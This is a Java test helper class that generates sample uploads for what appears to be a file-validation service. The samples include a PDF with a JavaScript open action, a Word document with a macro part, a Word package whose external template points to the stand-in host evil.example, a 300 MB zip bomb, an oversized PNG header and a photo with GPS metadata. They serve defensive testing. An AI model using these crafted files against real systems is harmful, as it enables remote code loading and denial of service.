package org.dudao.task.evidencing;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;

/** Files that the tests send, made as the programs make them that people use, and as others make them. */
final class Samples {

    static final String WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    private Samples() {}

    interface Writing {
        void to(OutputStream out) throws IOException;
    }

    static byte[] bytes(Writing writing) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            writing.to(out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] pdf(String mark) {
        return bytes(out -> {
            try (PDDocument pdf = new PDDocument()) {
                pdf.addPage(new PDPage());
                pdf.getDocumentInformation().setTitle(mark);
                pdf.save(out);
            }
        });
    }

    static byte[] pdfWithScript() {
        return bytes(out -> {
            try (PDDocument pdf = new PDDocument()) {
                pdf.addPage(new PDPage());
                pdf.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hi')"));
                pdf.save(out);
            }
        });
    }

    static byte[] pdfWithPassword() {
        return bytes(out -> {
            try (PDDocument pdf = new PDDocument()) {
                pdf.addPage(new PDPage());
                pdf.protect(new StandardProtectionPolicy("owner", "reader", new AccessPermission()));
                pdf.save(out);
            }
        });
    }

    static byte[] office(String mainType, Map<String, byte[]> parts) {
        return bytes(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
                zip.write(
                        ("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                                        + "<Override PartName=\"/main.xml\" ContentType=\"" + mainType + "\"/></Types>")
                                .getBytes(UTF_8));
                for (Map.Entry<String, byte[]> part : parts.entrySet()) {
                    zip.putNextEntry(new ZipEntry(part.getKey()));
                    zip.write(part.getValue());
                }
            }
        });
    }

    static byte[] docx() {
        return office(WORD, Map.of("main.xml", "<w/>".getBytes(UTF_8)));
    }

    static byte[] docxWithMacros() {
        return office(WORD, Map.of("word/vbaProject.bin", new byte[100]));
    }

    static byte[] docxWithTemplateElsewhere() {
        return office(
                WORD,
                Map.of(
                        "word/_rels/settings.xml.rels",
                        ("<R><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                                        + " Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></R>")
                                .getBytes(UTF_8)));
    }

    /** 300 MB of nothing, in some 300 KB. */
    static byte[] bomb() {
        return bytes(out -> {
            byte[] nothing = new byte[1024 * 1024];
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
                zip.write(("<Types><Override ContentType=\"" + WORD + "\"/></Types>").getBytes(UTF_8));
                zip.putNextEntry(new ZipEntry("word/document.xml"));
                for (int i = 0; i < 300; i++) {
                    zip.write(nothing);
                }
            }
        });
    }

    static byte[] zip() {
        return bytes(out -> {
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("a.txt"));
                zip.write(1);
            }
        });
    }

    static byte[] picture(String format, int width, int height, Color colour) {
        return bytes(out -> {
            BufferedImage picture = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
            Graphics2D g = picture.createGraphics();
            g.setColor(colour);
            g.fillRect(0, 0, width, height);
            g.dispose();
            ImageIO.write(picture, format, out);
        });
    }

    /** Taken by a phone that lay on its side, and that says where. */
    static byte[] photoWithPlace() {
        byte[] plain = picture("jpg", 1200, 600, Color.BLUE);
        ByteBuffer tiff = ByteBuffer.allocate(140);
        tiff.put("MM\0*".getBytes(ISO_8859_1)).putInt(8);
        tiff.putShort((short) 2);
        tiff.putShort((short) 0x0112)
                .putShort((short) 3)
                .putInt(1)
                .putShort((short) 6)
                .putShort((short) 0);
        tiff.putShort((short) 0x8825).putShort((short) 4).putInt(1).putInt(38);
        tiff.putInt(0);
        tiff.putShort((short) 4);
        tiff.putShort((short) 1).putShort((short) 2).putInt(2).put("N\0\0\0".getBytes(ISO_8859_1));
        tiff.putShort((short) 2).putShort((short) 5).putInt(3).putInt(92);
        tiff.putShort((short) 3).putShort((short) 2).putInt(2).put("E\0\0\0".getBytes(ISO_8859_1));
        tiff.putShort((short) 4).putShort((short) 5).putInt(3).putInt(116);
        tiff.putInt(0);
        for (int part : new int[] {31, 1, 14, 1, 5, 1, 121, 1, 28, 1, 7, 1}) {
            tiff.putInt(part);
        }
        ByteBuffer photo = ByteBuffer.allocate(plain.length + 10 + tiff.capacity());
        photo.put(plain, 0, 2).putShort((short) 0xffe1).putShort((short) (8 + tiff.capacity()));
        photo.put("Exif\0\0".getBytes(ISO_8859_1)).put(tiff.array());
        return photo.put(plain, 2, plain.length - 2).array();
    }

    /** A header alone: what it says is what decoding would cost. */
    static byte[] pngOf(int width, int height) {
        byte[] png = picture("png", 2, 2, Color.RED);
        ByteBuffer.wrap(png).putInt(16, width).putInt(20, height);
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(png, 12, 17);
        ByteBuffer.wrap(png).putInt(29, (int) crc.getValue());
        return png;
    }

    static byte[] text(String text) {
        return text.getBytes(UTF_8);
    }

    static byte[] raw(String latin) {
        return latin.getBytes(ISO_8859_1);
    }
}
